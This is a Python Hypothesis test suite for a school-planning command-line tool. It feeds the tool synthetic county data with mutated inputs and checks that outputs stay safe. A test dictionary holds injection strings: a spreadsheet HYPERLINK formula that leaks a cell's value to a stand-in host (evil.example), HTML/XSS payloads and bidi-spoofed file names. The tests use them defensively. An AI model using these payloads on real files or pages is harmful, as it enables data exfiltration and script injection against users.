"""Property-based tests over the whole command line (issue 14): any mix of the issue's cases ends cleanly.

Hypothesis builds a small county (a few schools and blocks, teachers or not) as CSV, Excel and
GeoPackage layers, applies a random set of the issue's "mutations" (hostile names, misspelt
headers, implausible numbers, a missing or wrong CRS, far-away blocks, co-located schools, a GBK
scenario file, an awkward ``--out``, bad parameters ...) and runs one command in-process: ``run``,
``validate``, ``zones``, ``balance``, ``communities`` or ``rotate``. Whatever it drew:

- the exit code is 0, 2, 3 or 4, and nothing prints a traceback;
- every file outside ``--out`` (the inputs among them) is byte-for-byte as it was;
- ``--out`` is untouched after exit 2 (and after ``validate``), or whole after 0, 3 and 4:
  ``manifest.json`` lists files that exist with its checksums, the user's files in it are as they
  were, the previous run's files this run did not write again are gone, and nothing else is there;
- no temporary folder or lock file is left anywhere;
- a mutation that is certainly bad input for the command (an out-of-range count in a layer it
  reads, ``--out`` naming a file, ``min_share`` above ``max_share`` ...) gives exit 2;
- names come out safe: no live formula in ``report.xlsx`` or a CSV output, no raw injected markup
  or bidirectional control in an HTML page.

Hypothesis draws a seed, and the county, the command and the mutations are built from it
(:func:`build_case`): drawn piece by piece, hypothesis's generator turns most examples into
near-copies of earlier ones, which at about half a second a run left most mixes untried. A failure
shows the case (seed, command, ``--out`` setup, mutations, layers) and the command line.
CI runs a fixed set of 60 seeds (derandomized, about 30 s); ``HYPOTHESIS_PROFILE=thorough`` draws
500 random ones to hunt for new failures.

Not here: an unreadable file or a read-only ``--out`` (the tests run as root, who reads and writes
anyway: ``test_run_folder.py`` and ``tests/geo/test_io.py`` fake them), Ctrl-C and two live runs
(``test_run_folder.py``, in child processes).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import itertools
import json
import os
import random
import re
import tempfile
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyproj
import pytest
import shapely
import tomli_w
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

from planning.app import cli

THOROUGH = os.environ.get("HYPOTHESIS_PROFILE") == "thorough"
SETTINGS = settings(
    max_examples=500 if THOROUGH else 60,
    derandomize=not THOROUGH,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

LON0, LAT0 = 110.20, 37.10  # 清涧县
FAR_DEG = 0.5  # ≈ 44 km east: beyond every day limit and the 2-hour boarding reach on foot
EXIT_CODES = {cli.EXIT_OK, cli.EXIT_INPUT, cli.EXIT_INFEASIBLE, cli.EXIT_SOLVER}
SCRIPT = "</title><script>alert('x')</script>"
HOSTILE = {
    "control": ["一小\x0b", "二\x07小", "三小\x00", "\x1b[31m红\x1b[0m"],
    "formula": ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "@SUM(A1)", "-2+3", "\t=1", "[/b]S2"],
    "html": [SCRIPT, "<b>粗</b> & 'q'", '"><img src=x onerror=alert(1)>'],
    "bidi": ["\u202egnp.exe", "学校\u2066x\u2069", "\u200f一小", "\u061c名"],
}
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")
SUBJECTS = ("chinese", "math", "english", "pe", "music", "art")
COMMANDS = ("run", "run", "validate", "zones", "zones", "balance", "communities", "rotate")  # run and zones do the most
#: Layers each stage command reads besides the ones it is given optionally.
COMMAND_LAYERS = {"zones": ("schools", "blocks"), "balance": ("schools",), "communities": ("schools",), "rotate": ("schools", "teachers")}
CHINESE = {
    "schools": {"school_id": "学校代码", "name": "学校名称", "level": "学段", "area_type": "城乡类型", "lon": "经度", "lat": "纬度"},
    "blocks": {"block_id": "小区代码", "students_primary": "小学适龄人数", "students_junior": "初中适龄人数", "lon": "经度", "lat": "纬度"},
    "teachers": {"teacher_id": "教师编号", "age": "年龄", "sex": "性别", "subject": "学科"},
}
#: Mutations a run should take in its stride: names, headers, geography, CRSs, encodings, settings.
BENIGN = (
    "control_names", "formula_names", "html_names", "bidi_names", "hostile_scenario_name",
    "misspelt_optional_header", "unknown_column", "chinese_headers",
    "far_block", "all_blocks_far", "colocated_schools", "far_school", "few_seats", "no_junior_pupils",
    "roads", "far_roads", "block_polygons", "big_plausible", "extreme_params", "infinite_params",
    "no_crs", "gcj02", "metres", "gpkg_without_crs", "layer_crs",
    "csv_encoding", "toml_encoding", "xlsx_layer", "strict", "max_moved_zero", "groups_file",
)
#: Mutations that are bad input whenever the command reads what they touch (exit 2).
BAD = (
    "misspelt_required_header", "huge_counts", "teacher_age", "blank_required", "duplicate_id",
    "missing_coordinate", "wrong_crs", "metres_read_as_degrees", "bad_enum", "min_above_max", "groups_bad_role", "bad_seed",
    "unknown_scenario_key", "empty_file", "missing_file", "alias_twice", "teacher_unknown_school", "nan_params",
)
MUTATIONS = BENIGN + BAD
#: Files a user may keep in ``--out`` under a name an output of the command has.
USER_NAMES = {"run": ["manifest.json", "network/summary.json", "report.html"], "flat": ["manifest.json", "summary.json"]}
#: Ways ``--out`` may be found, the plain ones more often (file, under_file, dir_as_file: always refused).
OUT_SETUPS = (
    "fresh", "fresh", "fresh", "nested", "existing_empty", "user_file", "user_other", "user_other", "previous_run",
    "previous_run", "previous_edited", "inputs_folder", "groups_inside", "relative", "stale_lock",
    "file", "under_file", "dir_as_file", "locked",
)


# --------------------------------------------------------------------------- the case


@dataclass
class Case:
    """One drawn county, its mutations and the command to run (plain data; written by :func:`materialize`)."""

    seed: int
    command: str
    frames: dict[str, pd.DataFrame]
    formats: dict[str, str]
    stages: list[str]
    out: str
    report: bool
    quiet: bool
    command_flags: list[str]
    mutations: list[str] = field(default_factory=list)
    groups: pd.DataFrame | None = None
    renames: dict[str, dict[str, str]] = field(default_factory=dict)
    csv_encoding: str = "utf-8"
    toml_encoding: str = "utf-8"
    crs: str | None = "wgs84"
    layer_crs: dict[str, str] = field(default_factory=dict)
    coords: str = "degrees"  # or "utm": x/y in EPSG:32649
    roads: list[tuple[tuple[float, float], tuple[float, float]]] = field(default_factory=list)  # lines, in degrees
    block_shape: str = "point"  # or "polygon": squares side by side (in a GeoPackage)
    gpkg_crs: str | None = "EPSG:4326"
    name: str = "清涧县 2026"
    title: str = ""
    params: dict[str, dict[str, Any]] = field(default_factory=dict)
    flags: list[str] = field(default_factory=list)
    scenario_extra: dict[str, Any] = field(default_factory=dict)  # top-level keys added to the scenario file
    in_name: str = "in"  # the folder of the inputs
    out_name: str = "out"  # --out, unless the setup puts it elsewhere
    broken: dict[str, str] = field(default_factory=dict)  # layer → "empty" (a file of 0 bytes) or "missing" (no file)
    strict: bool = False
    bad: set[str] = field(default_factory=set)  # what certainly makes the command's input bad: layer names, "crs", "params"
    user_name: str = "manifest.json"
    hostile: list[str] = field(default_factory=list)

    def __repr__(self) -> str:
        sizes = ", ".join(f"{layer} {len(frame)} ({self.formats.get(layer, 'csv')})" for layer, frame in self.frames.items())
        stages = f" stages={self.stages}" if self.scenario_based else ""
        return f"Case(seed={self.seed}: {self.command}{stages} out={self.out} mutations={self.mutations} county: {sizes})"

    @property
    def scenario_based(self) -> bool:
        return self.command in ("run", "validate")


def base_county(seeded: random.Random) -> dict[str, pd.DataFrame]:
    """Schools (one primary and one junior at least), blocks and, mostly, four teachers per school."""
    n_schools, n_blocks = seeded.randint(2, 5), seeded.randint(2, 7)
    rng = np.random.default_rng(seeded.getrandbits(32))
    levels = ["primary", "junior", *rng.choice(["primary", "junior", "nine_year"], n_schools - 2)]
    teaches_p = np.array([lv != "junior" for lv in levels])
    teaches_j = np.array([lv != "primary" for lv in levels])
    schools = pd.DataFrame({
        "school_id": [f"S{k}" for k in range(n_schools)],
        "name": [f"第{k}{'小学' if lv == 'primary' else '中学'}" for k, lv in enumerate(levels)],
        "level": levels,
        "area_type": rng.choice(["urban", "town", "rural"], n_schools),
        "capacity_primary": np.where(teaches_p, rng.integers(300, 900, n_schools), 0),
        "capacity_junior": np.where(teaches_j, rng.integers(300, 900, n_schools), 0),
        "enrolled_primary": np.where(teaches_p, rng.integers(50, 300, n_schools), 0),
        "enrolled_junior": np.where(teaches_j, rng.integers(50, 300, n_schools), 0),
        "boarding": rng.choice(["yes", "no"], n_schools),
        "floor_area_m2": rng.integers(1000, 6000, n_schools),
        "sports_area_m2": rng.integers(1000, 6000, n_schools),
        "books": rng.integers(2000, 20000, n_schools),
        "lon": LON0 + rng.uniform(-0.03, 0.03, n_schools).round(5),
        "lat": LAT0 + rng.uniform(-0.03, 0.03, n_schools).round(5),
    })
    blocks = pd.DataFrame({
        "block_id": [f"B{k}" for k in range(n_blocks)],
        "name": [f"小区{k}" for k in range(n_blocks)],
        "students_primary": rng.integers(0, 120, n_blocks),
        "students_junior": rng.integers(0, 60, n_blocks),
        "current_primary": rng.choice(schools["school_id"][teaches_p], n_blocks),
        "lon": LON0 + rng.uniform(-0.03, 0.03, n_blocks).round(5),
        "lat": LAT0 + rng.uniform(-0.03, 0.03, n_blocks).round(5),
    })
    frames = {"schools": schools, "blocks": blocks}
    if seeded.randint(0, 3):
        frames["teachers"] = _teachers(schools, rng)
    return frames


def _teachers(schools: pd.DataFrame, rng: np.random.Generator) -> pd.DataFrame:
    rows = []
    for sid, level in zip(schools["school_id"], schools["level"]):
        for j in range(4):
            rows.append({
                "teacher_id": f"T{len(rows):03d}", "school_id": sid, "subject": SUBJECTS[(j + len(rows)) % len(SUBJECTS)],
                "backbone": "yes" if rng.random() < 0.3 else "no", "above_qualification": "yes",
                "title": rng.choice(["junior", "intermediate", "senior"]), "years_at_school": int(rng.integers(0, 14)),
                "age": int(rng.integers(24, 58)), "sex": rng.choice(["M", "F"]),
                "level": "junior" if level == "junior" or (level == "nine_year" and j % 2) else "primary",
                "name": f"教师{len(rows)}",
            })
    return pd.DataFrame(rows)


def _command_flags(rng: random.Random, command: str) -> list[str]:
    """The stage command's own options, drawn (none for run and validate)."""
    flags: list[str] = []
    if command == "zones":
        flags += rng.choice([[], ["--level", "primary"], ["--level", "junior"]])
        flags += rng.choice([[], [], ["--method", "nearest"], ["--no-contiguity"], ["--no-multischool", "--no-feeder"]])
    elif command == "communities":
        flags += rng.choice([[], ["--levels", "mixed"], ["--min-members", "1", "--max-members", "1"], ["--lead-mode", "optimize"]])
    elif command == "rotate":
        flags += rng.choice([[], ["--quota-scope", "county"], ["--staffing", "tolerance"], ["--age-caps"]])
    return flags


def build_case(seed: int) -> Case:
    """A county, a command, an ``--out`` setup and one to four mutations applied to them, all from ``seed``."""
    rng = random.Random(seed)
    frames = base_county(rng)
    command = rng.choice(COMMANDS)
    if "teachers" not in frames and (command == "rotate" or (command in ("run", "validate") and rng.random() < 0.8)):
        frames["teachers"] = _teachers(frames["schools"], np.random.default_rng(0))
    case = Case(
        seed=seed,
        command=command,
        frames=frames,
        formats={"schools": rng.choice(["csv", "gpkg"]), "blocks": rng.choice(["csv", "gpkg"]), "teachers": "csv"},
        stages=rng.sample(["zones", "balance", "communities", "rotation"], rng.randint(1, 2)),
        out=rng.choice(OUT_SETUPS),
        report=command == "run" and rng.randint(0, 3) == 0,
        quiet=rng.random() < 0.5,
        command_flags=_command_flags(rng, command),
        user_name=rng.choice(USER_NAMES["run" if command == "run" else "flat"]),
        in_name=rng.choice(["in", "输入 数据"]),
        out_name=rng.choice(["out", "输出 方案"]),
    )
    benign = rng.sample(BENIGN, rng.randint(1, 4))
    bad = [rng.choice(BAD)] if rng.randint(0, 2) == 0 else []
    for name in benign + bad:
        case.mutations.append(name)
        MUTATE[name](rng, case)
    return case


# --------------------------------------------------------------------------- mutations


def _hostile_names(kind: str) -> Any:
    def mutate(rng: random.Random, case: Case) -> None:
        for layer in ("schools", "blocks", "teachers"):
            frame = case.frames.get(layer)
            if frame is None:
                continue
            rows = rng.sample(range(len(frame)), min(len(frame), rng.randint(1, 2)))
            for row in rows:
                text = rng.choice(HOSTILE[kind])
                frame.loc[row, "name"] = text
                case.hostile.append(text)

    return mutate


def _hostile_scenario_name(rng: random.Random, case: Case) -> None:
    everything = [t for texts in HOSTILE.values() for t in texts]
    case.name, case.title = rng.choice(everything), rng.choice(["", *everything])
    case.hostile += [case.name, case.title]


def _rename(case: Case, layer: str, old: str, new: str) -> None:
    case.renames.setdefault(layer, {})[old] = new


def _misspelt_optional_header(rng: random.Random, case: Case) -> None:
    _rename(case, "schools", "enrolled_primary", rng.choice(["enroled_primary", "Enrolled Primary", "小学在校生"]))


def _misspelt_required_header(rng: random.Random, case: Case) -> None:
    layer, old, new = rng.choice([
        ("schools", "school_id", "shcool_id"), ("blocks", "students_junior", "studnets_junior"), ("schools", "level", "levle"),
    ])
    _rename(case, layer, old, new)
    case.bad.add(layer)


def _unknown_column(rng: random.Random, case: Case) -> None:
    layer = rng.choice(sorted(case.frames))
    case.frames[layer]["备注"] = "见附件"


def _chinese_headers(rng: random.Random, case: Case) -> None:
    for layer, names in CHINESE.items():
        for old, new in names.items():
            case.renames.setdefault(layer, {}).setdefault(old, new)


def _huge_counts(rng: random.Random, case: Case) -> None:
    layer, column, value = rng.choice([
        ("blocks", "students_primary", 10**8), ("schools", "capacity_junior", 10**11), ("blocks", "students_junior", -5),
        ("schools", "enrolled_junior", 10**7),
    ])
    case.frames[layer].loc[0, column] = value
    case.bad.add(layer)


def _teacher_age(rng: random.Random, case: Case) -> None:
    if "teachers" in case.frames:
        case.frames["teachers"].loc[0, "age"] = rng.choice([200, 12, -1])
        case.bad.add("teachers")


def _blank_required(rng: random.Random, case: Case) -> None:
    layer, column = rng.choice([("schools", "level"), ("schools", "school_id"), ("blocks", "block_id")])
    case.frames[layer][column] = case.frames[layer][column].astype(object)
    case.frames[layer].loc[len(case.frames[layer]) - 1, column] = ""
    case.bad.add(layer)


def _duplicate_id(rng: random.Random, case: Case) -> None:
    layer, column = rng.choice([("schools", "school_id"), ("blocks", "block_id")])
    frame = case.frames[layer]
    frame.loc[len(frame) - 1, column] = frame.loc[0, column]
    case.bad.add(layer)


def _far_block(rng: random.Random, case: Case) -> None:
    case.frames["blocks"].loc[0, "lon"] += FAR_DEG


def _all_blocks_far(rng: random.Random, case: Case) -> None:
    case.frames["blocks"]["lon"] += FAR_DEG  # issue 14 case 1: every block out of reach of every school


def _colocated_schools(rng: random.Random, case: Case) -> None:
    schools = case.frames["schools"]
    which = rng.choice(["junior", "primary", "all"])
    rows = schools.index if which == "all" else schools.index[schools["level"].isin([which, "nine_year"])]
    schools.loc[rows, "lon"], schools.loc[rows, "lat"] = LON0, LAT0  # issue 14 case 2


def _far_school(rng: random.Random, case: Case) -> None:
    case.frames["schools"].loc[len(case.frames["schools"]) - 1, "lon"] += FAR_DEG


def _few_seats(rng: random.Random, case: Case) -> None:
    schools = case.frames["schools"]
    for col in ("capacity_primary", "capacity_junior"):
        schools[col] = np.minimum(schools[col], 10)


def _no_crs(rng: random.Random, case: Case) -> None:
    case.crs = None


def _gcj02(rng: random.Random, case: Case) -> None:
    case.crs = rng.choice(["gcj02", "bd09", "cgcs2000"])


def _wrong_crs(rng: random.Random, case: Case) -> None:
    case.crs = rng.choice(["EPSG:3857", "EPSG:4978", "moon"])
    case.bad.add("crs")


def _metres(rng: random.Random, case: Case) -> None:
    case.coords, case.crs, case.gpkg_crs = "utm", "EPSG:32649", "EPSG:32649"


def _metres_read_as_degrees(rng: random.Random, case: Case) -> None:
    case.coords, case.crs, case.gpkg_crs = "utm", "wgs84", "EPSG:32649"
    case.bad.add("crs")


def _gpkg_without_crs(rng: random.Random, case: Case) -> None:
    case.gpkg_crs = None


def _layer_crs(rng: random.Random, case: Case) -> None:
    case.layer_crs = {rng.choice(["schools", "blocks"]): rng.choice(["gcj02", "wgs84"])}


def _csv_encoding(rng: random.Random, case: Case) -> None:
    case.csv_encoding = rng.choice(["utf-8-sig", "gbk", "utf-16", "utf-8+crlf"])


def _toml_encoding(rng: random.Random, case: Case) -> None:
    case.toml_encoding = rng.choice(["utf-8-sig", "gbk"])


def _xlsx_layer(rng: random.Random, case: Case) -> None:
    case.formats[rng.choice(sorted(case.frames))] = "xlsx"


def _bad_enum(rng: random.Random, case: Case) -> None:
    flags = {
        "zones": ["--method", "fastest"], "balance": ["--crs", "moon"],
        "communities": ["--lead-mode", "boss"], "rotate": ["--sending-area-types", "moon"],
    }
    if case.scenario_based:
        stage, key, value = rng.choice([
            ("zones", "method", "fastest"), ("communities", "lead_mode", "boss"), ("rotation", "sending_area_types", ["moon"]),
        ])
        case.params.setdefault(stage, {})[key] = value
        case.stages = sorted({*case.stages, stage})
    else:
        case.flags += flags[case.command]
    case.bad.add("params")


def _min_above_max(rng: random.Random, case: Case) -> None:
    pairs = {"communities": ("min_members", 5, "max_members", 2), "rotation": ("min_share", 0.5, "max_share", 0.1)}
    stage = {"communities": "communities", "rotate": "rotation"}.get(case.command)
    if case.scenario_based:
        stage = rng.choice(sorted(pairs))
        case.stages = sorted({*case.stages, stage})
    if stage is None:
        return
    lo, lo_value, hi, hi_value = pairs[stage]
    case.params.setdefault(stage, {}).update({lo: lo_value, hi: hi_value})
    if not case.scenario_based:
        case.flags += [f"--{lo.replace('_', '-')}", str(lo_value), f"--{hi.replace('_', '-')}", str(hi_value)]
    case.bad.add("params")


def _strict(rng: random.Random, case: Case) -> None:
    case.strict = True


def _max_moved_zero(rng: random.Random, case: Case) -> None:
    case.params.setdefault("zones", {})["max_moved"] = 0
    if case.command == "zones":
        case.flags += ["--max-moved", "0"]


def _make_groups(case: Case) -> None:
    """One mixed-level group: the first school leads, the others are members (last year's ``groups.csv``)."""
    ids = list(case.frames["schools"]["school_id"])
    case.groups = pd.DataFrame({"school_id": ids, "group_id": "G1", "role": ["lead"] + ["member"] * (len(ids) - 1), "level": "all"})


def _groups_file(rng: random.Random, case: Case) -> None:
    _make_groups(case)


def _groups_bad_role(rng: random.Random, case: Case) -> None:
    _groups_file(rng, case)
    assert case.groups is not None
    case.groups.loc[1, "role"] = rng.choice(["boss", "", "牵头校"])
    case.bad.add("groups")


def _no_junior_pupils(rng: random.Random, case: Case) -> None:
    case.frames["blocks"]["students_junior"] = 0


def _teacher_unknown_school(rng: random.Random, case: Case) -> None:
    if "teachers" in case.frames:
        case.frames["teachers"].loc[0, "school_id"] = "S99"
        case.bad.add("teachers")


def _roads(rng: random.Random, case: Case) -> None:
    """A road grid over the county: three streets each way, 0.03° apart."""
    if case.roads:
        return
    ticks = [-0.04, -0.01, 0.02, 0.05]
    for t in ticks[:-1]:
        for u, v in itertools.pairwise(ticks):
            case.roads.append(((LON0 + u, LAT0 + t), (LON0 + v, LAT0 + t)))
            case.roads.append(((LON0 + t, LAT0 + u), (LON0 + t, LAT0 + v)))


def _far_roads(rng: random.Random, case: Case) -> None:
    _roads(rng, case)
    case.roads = [((x0 + FAR_DEG, y0), (x1 + FAR_DEG, y1)) for (x0, y0), (x1, y1) in case.roads]  # issue 14 case 1, with roads


def _block_polygons(rng: random.Random, case: Case) -> None:
    """Blocks as squares side by side (0.005°), in a GeoPackage: zones by shared borders."""
    blocks = case.frames["blocks"]
    k = np.arange(len(blocks))
    blocks["lon"], blocks["lat"] = LON0 - 0.01 + 0.005 * (k % 3), LAT0 - 0.01 + 0.005 * (k // 3)
    case.block_shape, case.formats["blocks"] = "polygon", "gpkg"


def _missing_coordinate(rng: random.Random, case: Case) -> None:
    layer = rng.choice(["schools", "blocks"])
    case.frames[layer].loc[0, "lat"] = np.nan
    case.bad.add(layer)


def _bad_seed(rng: random.Random, case: Case) -> None:
    if case.command != "validate":
        case.flags += ["--seed", rng.choice(["-1", "x", "1e99"])]
        case.bad.add("params")


def _unknown_scenario_key(rng: random.Random, case: Case) -> None:
    if case.scenario_based:
        case.scenario_extra["sead"] = 3
        case.bad.add("params")


def _alias_twice(rng: random.Random, case: Case) -> None:
    """Two headers for one column (``name`` and ``校名``), as a table merged from two sources has."""
    schools = case.frames["schools"]
    schools["校名"] = schools["name"] + "（别名）"
    case.bad.add("schools")


def _big_plausible(rng: random.Random, case: Case) -> None:
    """Counts just within the plausible ranges: a block of 99,999 pupils, a school of 20,000 seats."""
    case.frames["blocks"].loc[0, "students_primary"] = 99_999
    case.frames["schools"].loc[0, "capacity_primary"] = 20_000


def _extreme_params(rng: random.Random, case: Case) -> None:
    """Weights and penalties far beyond any sensible value (integer models scale them)."""
    params = {
        "zones": {"overflow_penalty": 1e15, "stability_weight": 1e12},
        "communities": {"strength_weight_min": 1e12, "rural_penalty_min": 1e15},
        "rotation": {"gap_weight": 1e15, "move_penalty": 1e12},
    }
    _set_params(case, params)


def _infinite_params(rng: random.Random, case: Case) -> None:
    """Infinite weights, penalties and caps (TOML and the command line both spell ``inf``): within every lower bound."""
    value = float("inf")
    params = {
        "zones": {"overflow_penalty": value, "stability_weight": value},
        "communities": {"max_travel_min": value, "strength_weight_min": value},
        "rotation": {"gap_weight": value, "move_penalty": value},
    }
    _set_params(case, params)


def _nan_params(rng: random.Random, case: Case) -> None:
    """Not-a-number and minus infinity (TOML and the command line spell ``nan``, ``-inf``): below every bound, or unordered."""
    value = rng.choice([float("nan"), -float("inf")])
    params = {
        "zones": {"lower_grades_share": value, "stability_weight": value},
        "communities": {"max_travel_min": value},
        "rotation": {"min_share": value, "commute_weight_per_min": value},
    }
    if _set_params(case, params):
        case.bad.add("params")  # each is out of its range, and a NaN compares false with every bound


def _set_params(case: Case, params: dict[str, dict[str, Any]]) -> bool:
    """Set stage parameters: in the scenario for the stages it runs, as flags for a stage command; whether any was set."""
    stage = {"zones": "zones", "communities": "communities", "rotate": "rotation"}.get(case.command)
    count = len(case.flags) + sum(map(len, case.params.values()))
    for name, values in params.items():
        if case.scenario_based and name in case.stages:
            case.params.setdefault(name, {}).update(values)
        elif name == stage:
            for key, value in values.items():
                case.flags += [f"--{key.replace('_', '-')}", str(value)]
    return len(case.flags) + sum(map(len, case.params.values())) > count


def _empty_file(rng: random.Random, case: Case) -> None:
    layer = rng.choice(sorted(case.frames))
    case.broken[layer] = "empty"
    case.bad.add(layer)


def _missing_file(rng: random.Random, case: Case) -> None:
    layer = rng.choice(sorted(case.frames))
    case.broken[layer] = "missing"
    case.bad.add(layer)


MUTATE: dict[str, Any] = {
    "control_names": _hostile_names("control"), "formula_names": _hostile_names("formula"),
    "html_names": _hostile_names("html"), "bidi_names": _hostile_names("bidi"),
    "hostile_scenario_name": _hostile_scenario_name,
    "misspelt_optional_header": _misspelt_optional_header, "misspelt_required_header": _misspelt_required_header,
    "unknown_column": _unknown_column, "chinese_headers": _chinese_headers, "huge_counts": _huge_counts,
    "teacher_age": _teacher_age, "blank_required": _blank_required, "duplicate_id": _duplicate_id,
    "far_block": _far_block, "all_blocks_far": _all_blocks_far, "colocated_schools": _colocated_schools,
    "far_school": _far_school, "few_seats": _few_seats,
    "no_crs": _no_crs, "gcj02": _gcj02, "wrong_crs": _wrong_crs, "metres": _metres,
    "metres_read_as_degrees": _metres_read_as_degrees, "gpkg_without_crs": _gpkg_without_crs, "layer_crs": _layer_crs,
    "csv_encoding": _csv_encoding, "toml_encoding": _toml_encoding, "xlsx_layer": _xlsx_layer,
    "bad_enum": _bad_enum, "min_above_max": _min_above_max, "strict": _strict, "max_moved_zero": _max_moved_zero,
    "groups_file": _groups_file, "groups_bad_role": _groups_bad_role,
    "no_junior_pupils": _no_junior_pupils, "teacher_unknown_school": _teacher_unknown_school, "roads": _roads,
    "far_roads": _far_roads, "block_polygons": _block_polygons, "missing_coordinate": _missing_coordinate,
    "bad_seed": _bad_seed, "unknown_scenario_key": _unknown_scenario_key, "alias_twice": _alias_twice,
    "big_plausible": _big_plausible, "extreme_params": _extreme_params, "nan_params": _nan_params,
    "infinite_params": _infinite_params,
    "empty_file": _empty_file, "missing_file": _missing_file,
}
assert set(MUTATE) == set(MUTATIONS)


# --------------------------------------------------------------------------- writing the case


@dataclass
class Written:
    """The files of a case on disk and the command line that runs it."""

    argv: list[str]
    out: Path
    layers: dict[str, Path]  # the layers (and groups) the command reads
    expect_input_error: list[str]  # why exit 2 is certain (empty: any of 0, 2, 3, 4)
    previous: dict[str, Any] | None  # the schoolplan manifest in --out before the run
    stale: list[str] = field(default_factory=list)  # what a dead run left beside --out (relative to the root): may go
    held: list[int] = field(default_factory=list)  # descriptors of a lock held on --out as another run would: close after


def _encode(text: str, encoding: str) -> bytes:
    """``text`` in ``encoding`` (``+crlf``: with Windows line ends), or UTF-8 when it has characters that encoding lacks."""
    encoding, _, crlf = encoding.partition("+")
    text = text.replace("\n", "\r\n") if crlf else text
    try:
        return text.encode(encoding)
    except UnicodeEncodeError:  # as a user's editor would save it
        return text.encode("utf-8")


def _to_utm(case: Case, x: Any, y: Any) -> tuple[Any, Any]:
    """Coordinates as the case writes them: degrees, or metres of UTM zone 49N."""
    if case.coords != "utm":
        return x, y
    return pyproj.Transformer.from_crs(4326, 32649, always_xy=True).transform(x, y)


def _geometry(case: Case, layer: str, frame: pd.DataFrame) -> Any:
    half = 0.0025 if layer == "blocks" and case.block_shape == "polygon" else 0.0
    lon, lat = frame["lon"].to_numpy(dtype=float), frame["lat"].to_numpy(dtype=float)
    if not half:
        return gpd.points_from_xy(*_to_utm(case, lon, lat))
    rings = [[(x - half, y - half), (x + half, y - half), (x + half, y + half), (x - half, y + half)] for x, y in zip(lon, lat)]
    return [None if np.isnan(ring).any() else shapely.Polygon([_to_utm(case, px, py) for px, py in ring]) for ring in rings]


def _write_gpkg(path: Path, frame: gpd.GeoDataFrame) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pyogrio warns about a file without a CRS: that is the point
        frame.to_file(path, driver="GPKG")


def _write_layer(case: Case, layer: str, frame: pd.DataFrame, folder: Path) -> Path:
    fmt = case.formats.get(layer, "csv")
    if fmt == "xlsx" and frame.map(lambda v: isinstance(v, str) and bool(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", v))).any().any():
        fmt = "csv"  # openpyxl cannot store control characters: such a name reaches a user only through a CSV file
    path = folder / f"{layer}.{fmt}"
    renames = case.renames.get(layer, {})
    if fmt == "gpkg":
        geometry = _geometry(case, layer, frame)
        _write_gpkg(path, gpd.GeoDataFrame(frame.drop(columns=["lon", "lat"]), geometry=geometry, crs=case.gpkg_crs).rename(columns=renames))
        return path
    frame = frame.copy()
    if "lon" in frame:
        x, y = _to_utm(case, frame["lon"].to_numpy(dtype=float), frame["lat"].to_numpy(dtype=float))
        frame["lon"], frame["lat"] = np.round(x, 6 if case.coords == "degrees" else 1), np.round(y, 6 if case.coords == "degrees" else 1)
    frame = frame.rename(columns=renames)
    if fmt == "xlsx":
        frame.to_excel(path, index=False)
    else:
        path.write_bytes(_encode(frame.to_csv(index=False), case.csv_encoding))
    return path


def _write_roads(case: Case, folder: Path) -> Path:
    lines = [shapely.LineString([_to_utm(case, *a), _to_utm(case, *b)]) for a, b in case.roads]
    highway = ["primary" if k % 3 == 0 else "residential" for k in range(len(lines))]
    path = folder / "roads.gpkg"
    _write_gpkg(path, gpd.GeoDataFrame({"highway": highway, "name": [f"路{k}" for k in range(len(lines))]}, geometry=lines, crs=case.gpkg_crs))
    return path


def _scenario_file(case: Case, layers: dict[str, Path], folder: Path) -> Path:
    inputs: dict[str, Any] = {layer: path.name for layer, path in layers.items() if layer != "groups"}
    if case.crs is not None:
        inputs["crs"] = case.crs
    if case.layer_crs:
        inputs["layer_crs"] = case.layer_crs
    data: dict[str, Any] = {"name": case.name, "seed": 7, "inputs": inputs, "solver": {"time_limit_s": 1.0, "workers": 1}}
    for stage in case.stages:
        data[stage] = dict(case.params.get(stage, {}))
    if "groups" in layers:
        group_path = os.path.relpath(layers["groups"], folder)
        if "communities" in case.stages:
            data["communities"]["fixed_groups"] = group_path
        elif "rotation" in case.stages:
            data["rotation"]["groups"] = group_path
    if case.title:
        data["report"] = {"title": case.title}
    path = folder / "scenario.toml"
    path.write_bytes(_encode(tomli_w.dumps({**data, **case.scenario_extra}), case.toml_encoding))
    return path


def _prepare_out(case: Case, root: Path, inputs: Path) -> tuple[Path, list[str]]:
    """Make ``--out`` as the setup says; the reasons it is certainly refused (exit 2)."""
    out = root / case.out_name
    writes = case.command != "validate"
    setup = case.out
    if setup == "locked":
        return out, ["another run holds the lock on --out"] * writes
    if setup == "nested":
        return root / "a" / "b" / "out", []
    if setup == "file":
        out.write_text("a file, not a folder\n", encoding="utf-8")
        return out, ["--out is a file"] * writes
    if setup == "under_file":
        (root / "afile").write_text("x\n", encoding="utf-8")
        return root / "afile" / "out", ["--out is under a file"] * writes
    if setup == "inputs_folder":
        return inputs, []
    out.mkdir()
    name = case.user_name
    if setup == "user_file":
        (out / name).parent.mkdir(parents=True, exist_ok=True)
        (out / name).write_text("the user's own file\n", encoding="utf-8")
        certain = name == "manifest.json" or (name == "report.html" and case.report)
        return out, [f"a user's {name} in --out"] * (writes and certain)
    if setup == "user_other":
        (out / "我的笔记.txt").write_text("notes\n", encoding="utf-8")
        (out / "zones").mkdir()
        (out / "zones" / "mine.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    elif setup == "dir_as_file":
        (out / "manifest.json").mkdir()
        (out / "manifest.json" / "keep.txt").write_text("x\n", encoding="utf-8")
        return out, ["a folder named manifest.json in --out"] * writes
    elif setup in ("previous_run", "previous_edited"):
        _previous_run(out, edited=setup == "previous_edited")
    return out, []


def _previous_run(out: Path, *, edited: bool) -> None:
    """What an earlier run left: files its manifest lists (changed since by the user when ``edited``)."""
    files = {"old_stage/table.csv": "a,b\n1,2\n", "old.json": '{"x": 1}\n'}
    listed = {}
    for rel, text in files.items():
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_text(text, encoding="utf-8")
        listed[rel] = hashlib.sha256((text + "edited" * edited).encode("utf-8")).hexdigest()
    manifest = {"schoolplan": "0.1.0", "outputs": listed, "kept": {}}
